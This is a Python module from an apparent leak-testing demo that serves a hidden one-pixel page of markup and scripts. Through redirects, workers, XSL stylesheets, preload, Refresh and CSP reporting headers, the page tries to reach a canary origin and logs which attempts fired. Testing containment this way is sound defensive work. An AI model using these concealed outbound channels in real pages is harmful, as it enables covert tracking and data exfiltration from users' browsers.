"""A work list that tries to leave: markup and scripts for the ways of `hostile_ways`, and their helper pages."""

from __future__ import annotations

import json
import threading
from http import HTTPStatus
from typing import Final

from fossatray.demo.hostile_ways import LAST_SCRIPT, MARKUP, SCRIPTS, WAYS
from fossatray.demo.http_types import Reply, Request
from fossatray.demo.templates_reader import resource

SCRIPT: Final = "text/javascript; charset=utf-8"
BOX_STYLE: Final = "position: fixed; left: 0; bottom: 0; width: 1px; height: 1px; overflow: hidden;"
LEAVE_AFTER_MS: Final = 4000


class HostilePage:
    """The attempts to reach `canary_origin`, and which of them a browser has made."""

    def __init__(self, canary_origin: str) -> None:
        """`canary_origin` has no trailing slash."""
        self.canary_origin = canary_origin
        self._lock = threading.Lock()
        self._tried: set[str] = set()

    @property
    def tried(self) -> set[str]:
        """The names of the ways that a browser has tried so far (markup counts when the page's script ran)."""
        with self._lock:
            return set(self._tried)

    def markup(self) -> str:
        """What is put into the work list: drawn, but one pixel large."""
        parts = "\n".join(self._way(name, text) for name, text in MARKUP.items())
        attempts = "\n".join(f"attempt({json.dumps(name)}, (url) => {{ {code} }});" for name, code in SCRIPTS.items())
        last, code = LAST_SCRIPT
        leave = f"tried.push({json.dumps(last)}); tell().then(() => {{ const url = CANARY + '/{last}'; {code}; }});"
        lines = (
            "(() => {",
            f"const CANARY = {json.dumps(self.canary_origin)};",
            f"const TRIED = {json.dumps(list(MARKUP))};",
            resource("hostile.js"),
            attempts,
            "tell();",
            f"setTimeout(() => {{ {leave} }}, {LEAVE_AFTER_MS});",
            "})();",
        )
        script = "\n".join(lines)
        return f'<div class="hostile-box" style="{BOX_STYLE}">{parts}</div>\n<script>{script}</script>\n'

    def answer(self, request: Request) -> Reply:
        """A helper page: a redirect away, a page with telling headers, a worker; or the note of what was tried."""
        _, _, kind, *rest = f"{request.path}//".split("/")
        name = rest[0] if rest else ""
        if kind == "tried":
            with self._lock:
                self._tried |= set(request.query.get("names", "").split(",")) & set(WAYS)
            return Reply(b"", HTTPStatus.NO_CONTENT)
        url = f"{self.canary_origin}/{name}"
        if name not in WAYS:
            return Reply.html("", HTTPStatus.NOT_FOUND)
        if kind == "redirect":
            return Reply.redirect(url)
        if kind == "worker":
            code = f"fetch({json.dumps(url)}, {{mode: 'no-cors'}}); self.onconnect = () => 0;"
            return Reply(code.encode(), content_type=SCRIPT)
        if kind == "sheet":
            text = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}"?><a/>'
            return Reply(text.encode(), content_type="application/xml")
        return self._telling(name, url)

    def _telling(self, name: str, url: str) -> Reply:
        violation = "<script src='data:text/javascript,1'></script>x"
        headers = {
            "header-link": (("Link", f"<{url}>; rel=preload; as=image"),),
            "header-refresh": (("Refresh", f"0; url={url}"),),
            "header-csp-report": (("Content-Security-Policy", f"script-src 'none'; report-uri {url}"),),
            "header-reporting": (
                ("Reporting-Endpoints", f'away="{url}"'),
                ("Content-Security-Policy", "script-src 'none'; report-to away"),
            ),
        }
        return Reply(violation.encode(), headers=headers.get(name, ()))

    def _way(self, name: str, text: str) -> str:
        return text.replace("@", f"{self.canary_origin}/{name}").replace("\x00", "@")
